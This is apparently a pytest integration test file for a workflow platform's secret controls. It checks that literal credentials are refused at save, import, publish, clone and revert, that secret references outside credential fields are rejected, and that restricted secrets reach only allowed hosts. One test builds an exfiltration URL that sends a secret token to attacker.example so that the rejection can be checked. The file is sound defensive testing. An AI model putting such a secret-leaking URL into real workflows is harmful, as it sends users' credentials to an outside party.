"""Secrets out of place refuse the save; restricted secrets go only to allowed hosts.

Both database backends (the ``client`` fixture runs each test on SQLite and
PostgreSQL).
"""

from __future__ import annotations

import copy
from typing import Any

from fastapi.testclient import TestClient

from tests.definitions import linear
from tests.factories import Member, assert_problem
from tests.integration.conftest import Cli
from tests.legacy_versions import insert_legacy_version

PROJECT = "/api/v1/projects/alpha"
WORKFLOWS = f"{PROJECT}/workflows"
SECRETS = f"{PROJECT}/secrets"
CALL = "/definition/nodes/2/config"


def with_call(**config: Any) -> dict[str, Any]:
    """``linear()`` whose http_call node has ``config`` merged in."""
    definition = linear()
    definition["nodes"][2]["config"].update(copy.deepcopy(config))
    return definition


def bearer(name: str = "CRM_TOKEN") -> dict[str, Any]:
    return {"headers": {"Authorization": f"Bearer {{{{ secrets.{name} }}}}"}}


def create(client: TestClient, owner: Member, definition: Any, name: str = "Sync") -> Any:
    return client.post(
        WORKFLOWS, json={"name": name, "definition": definition}, headers=owner.headers
    )


def codes(problem: dict[str, Any]) -> list[tuple[str, str]]:
    return [(error["code"], error["path"]) for error in problem["errors"]]


def test_a_literal_credential_is_refused_at_create_and_save_with_its_pointer(
    client: TestClient, owner: Member
) -> None:
    literal = with_call(headers={"Authorization": "Bearer sk-live-123"})
    refused = assert_problem(create(client, owner, literal), 422)
    assert codes(refused) == [("secret.literal_value", f"{CALL}/headers/Authorization")]
    assert "sk-live-123" not in str(refused)
    assert client.get(WORKFLOWS, headers=owner.headers).json()["items"] == []

    assert create(client, owner, with_call(**bearer())).status_code == 201
    saved = client.put(
        f"{WORKFLOWS}/sync",
        json={"definition": with_call(auth={"type": "bearer", "token": "sk-live-123"})},
        headers={**owner.headers, "If-Match": '"1"'},
    )
    assert codes(assert_problem(saved, 422)) == [("secret.literal_value", f"{CALL}/auth/token")]
    head = client.get(f"{WORKFLOWS}/sync", headers=owner.headers)
    assert head.headers["etag"] == '"1"'
    assert "sk-live-123" not in head.text


def test_a_reference_outside_a_credential_field_is_refused_at_save(
    client: TestClient, owner: Member
) -> None:
    exfiltrating = linear(url="https://attacker.example/c?k={{secrets.API_TOKEN}}")
    refused = assert_problem(create(client, owner, exfiltrating), 422)
    assert codes(refused) == [("secret.reference_not_allowed", f"{CALL}/url")]
    in_body = with_call(body={"token": "{{ secrets.API_TOKEN }}"})
    assert codes(assert_problem(create(client, owner, in_body), 422)) == [
        ("secret.reference_not_allowed", f"{CALL}/body/token")
    ]
    report = client.post(
        f"{PROJECT}/validate", json={"definition": exfiltrating}, headers=owner.headers
    ).json()
    assert not report["valid"]
    assert [e["code"] for e in report["errors"]] == ["secret.reference_not_allowed"]


def test_a_bundle_holding_a_literal_credential_is_not_imported(
    client: TestClient, owner: Member
) -> None:
    assert create(client, owner, with_call(**bearer())).status_code == 201
    bundle = client.get(f"{WORKFLOWS}/sync/export", headers=owner.headers).json()
    client.delete(f"{WORKFLOWS}/sync", headers=owner.headers)
    config = bundle["workflows"][0]["versions"][0]["definition"]["nodes"][2]["config"]
    config["headers"]["Authorization"] = "Bearer sk-live-123"
    refused = assert_problem(
        client.post(f"{PROJECT}/import", json=bundle, headers=owner.headers), 422
    )
    assert [e["code"] for e in refused["errors"]] == ["secret.literal_value"]
    assert client.get(WORKFLOWS, headers=owner.headers).json()["items"] == []


def test_a_stored_literal_can_be_neither_published_nor_reverted_to_nor_cloned(
    client: TestClient, owner: Member, db: Any
) -> None:
    assert create(client, owner, with_call(**bearer())).status_code == 201
    insert_legacy_version(
        db, "alpha", "sync", with_call(headers={"Authorization": "Bearer sk-live-123"})
    )
    publish = client.post(f"{WORKFLOWS}/sync/versions/publish", json={}, headers=owner.headers)
    assert "secret.literal_value" in [e["code"] for e in assert_problem(publish, 422)["errors"]]
    clone = client.post(f"{WORKFLOWS}/sync/clone", json={"name": "Copy"}, headers=owner.headers)
    assert codes(assert_problem(clone, 422)) == [
        ("secret.literal_value", "/nodes/2/config/headers/Authorization")
    ]
    # back to version 1 (clean), then reverting to the literal version is refused
    client.post(f"{WORKFLOWS}/sync/versions/1/revert", headers=owner.headers)
    revert = client.post(f"{WORKFLOWS}/sync/versions/2/revert", headers=owner.headers)
    assert "secrets scrub" in assert_problem(revert, 422)["detail"]


def test_allowed_hosts_are_normalised_kept_on_replace_and_changed_without_the_value(
    client: TestClient, owner: Member
) -> None:
    created = client.put(
        f"{SECRETS}/CRM_TOKEN",
        json={"value": "v1", "allowed_hosts": ["API.Example.com.", "*.crm.example"]},
        headers=owner.headers,
    )
    assert created.status_code == 201
    assert created.json()["allowed_hosts"] == ["api.example.com", "*.crm.example"]
    # a rotated value keeps its list: rotating never widens where a secret goes
    rotated = client.put(f"{SECRETS}/CRM_TOKEN", json={"value": "v2"}, headers=owner.headers)
    assert rotated.json()["allowed_hosts"] == ["api.example.com", "*.crm.example"]
    listed = client.get(SECRETS, headers=owner.headers).json()
    assert listed[0]["allowed_hosts"] == ["api.example.com", "*.crm.example"]
    patched = client.patch(
        f"{SECRETS}/CRM_TOKEN", json={"allowed_hosts": None}, headers=owner.headers
    )
    assert patched.status_code == 200
    assert patched.json()["allowed_hosts"] is None
    assert patched.json()["description"] == ""
    audit = client.get(f"{PROJECT}/audit", headers=owner.headers).json()["items"]
    assert [(e["action"], e["summary"].get("allowed_hosts", "-")) for e in audit[:3]] == [
        ("secret.update", None),
        ("secret.update", "-"),
        ("secret.create", ["api.example.com", "*.crm.example"]),
    ]


def test_bad_allowed_hosts_are_422_with_a_pointer_each(client: TestClient, owner: Member) -> None:
    bad = client.put(
        f"{SECRETS}/CRM_TOKEN",
        json={"value": "v", "allowed_hosts": ["api.example.com", "https://x.example/", "*.com"]},
        headers=owner.headers,
    )
    assert [(e["path"], e["code"]) for e in assert_problem(bad, 422)["errors"]] == [
        ("/allowed_hosts/1", "secret.invalid_host"),
        ("/allowed_hosts/2", "secret.invalid_host"),
    ]
    many = client.put(
        f"{SECRETS}/CRM_TOKEN",
        json={"value": "v", "allowed_hosts": [f"h{i}.example.com" for i in range(33)]},
        headers=owner.headers,
    )
    assert [e["code"] for e in assert_problem(many, 422)["errors"]] == ["secret.too_many_hosts"]
    assert client.get(SECRETS, headers=owner.headers).json() == []
    missing = client.patch(f"{SECRETS}/NOPE", json={"allowed_hosts": []}, headers=owner.headers)
    assert_problem(missing, 404)


def test_publish_refuses_to_send_a_restricted_secret_to_another_host(
    client: TestClient, owner: Member
) -> None:
    client.put(
        f"{SECRETS}/CRM_TOKEN",
        json={"value": "v", "allowed_hosts": ["crm.example.com"]},
        headers=owner.headers,
    )
    definition = with_call(**bearer())  # linear() calls https://api.example.com/orders
    assert create(client, owner, definition).status_code == 201
    publish = f"{WORKFLOWS}/sync/versions/publish"
    refused = assert_problem(client.post(publish, json={}, headers=owner.headers), 422)
    assert codes(refused) == [("secret.host_not_allowed", "/nodes/2/config/url")]
    assert "crm.example.com" in refused["errors"][0]["message"]
    report = client.post(
        f"{PROJECT}/validate", json={"definition": definition}, headers=owner.headers
    ).json()
    assert [e["code"] for e in report["errors"]] == ["secret.host_not_allowed"]

    client.patch(
        f"{SECRETS}/CRM_TOKEN",
        json={"allowed_hosts": ["crm.example.com", "api.example.com"]},
        headers=owner.headers,
    )
    assert client.post(publish, json={}, headers=owner.headers).status_code == 200


def test_a_placeholder_host_cannot_take_a_restricted_secret(
    client: TestClient, owner: Member
) -> None:
    client.put(
        f"{SECRETS}/CRM_TOKEN",
        json={"value": "v", "allowed_hosts": ["*.example.com"]},
        headers=owner.headers,
    )
    dynamic = with_call(url="https://{{input.tenant}}.example.com/orders", **bearer())
    assert create(client, owner, dynamic).status_code == 201
    refused = client.post(f"{WORKFLOWS}/sync/versions/publish", json={}, headers=owner.headers)
    assert "placeholder" in assert_problem(refused, 422)["errors"][0]["message"]


def test_the_cli_sets_shows_and_lifts_allowed_hosts(
    cli: Cli, client: TestClient, owner: Member
) -> None:
    stored = cli(
        *("secrets", "set", "CRM_TOKEN", "--value-stdin"),
        *("--allow-host", "api.example.com", "--allow-host", "*.crm.example"),
        code=None,
        stdin="sk-live-123\n",
    )
    assert stored.exit_code == 0, stored.output
    assert "api.example.com, *.crm.example" in stored.output
    listed = cli("secrets", "list", code=None)
    assert "api.example.com, *.crm.example" in listed.output
    shown = cli("secrets", "hosts", "CRM_TOKEN", code=None)
    assert "may be sent to api.example.com, *.crm.example" in shown.output
    lifted = cli("secrets", "hosts", "CRM_TOKEN", "--any-host", code=None)
    assert "may be sent to any host" in lifted.output
    nowhere = cli("secrets", "hosts", "CRM_TOKEN", "--no-host", code=None)
    assert "may be sent to no host" in nowhere.output
    bad = cli("secrets", "hosts", "CRM_TOKEN", "--allow-host", "a b", code=None)
    assert bad.exit_code != 0
    assert "secret.invalid_host" in bad.output or "not a host name" in bad.output
    both = cli(
        "secrets", "hosts", "CRM_TOKEN", "--any-host", "--allow-host", "x.example", code=None
    )
    assert both.exit_code == 2


def test_importing_a_published_version_aimed_elsewhere_warns(
    client: TestClient, owner: Member
) -> None:
    assert create(client, owner, with_call(**bearer())).status_code == 201
    client.put(f"{SECRETS}/CRM_TOKEN", json={"value": "v"}, headers=owner.headers)
    assert (
        client.post(f"{WORKFLOWS}/sync/versions/publish", json={}, headers=owner.headers)
    ).status_code == 200
    bundle = client.get(f"{WORKFLOWS}/sync/export", headers=owner.headers).json()
    client.patch(
        f"{SECRETS}/CRM_TOKEN", json={"allowed_hosts": ["crm.example.com"]}, headers=owner.headers
    )
    imported = client.post(f"{PROJECT}/import?force=true", json=bundle, headers=owner.headers)
    assert imported.status_code in (200, 201), imported.text
    assert [(w["code"], w["path"]) for w in imported.json()["warnings"]] == [
        ("secret.host_not_allowed", "/workflows/0/versions/0/definition/nodes/2/config/url")
    ]
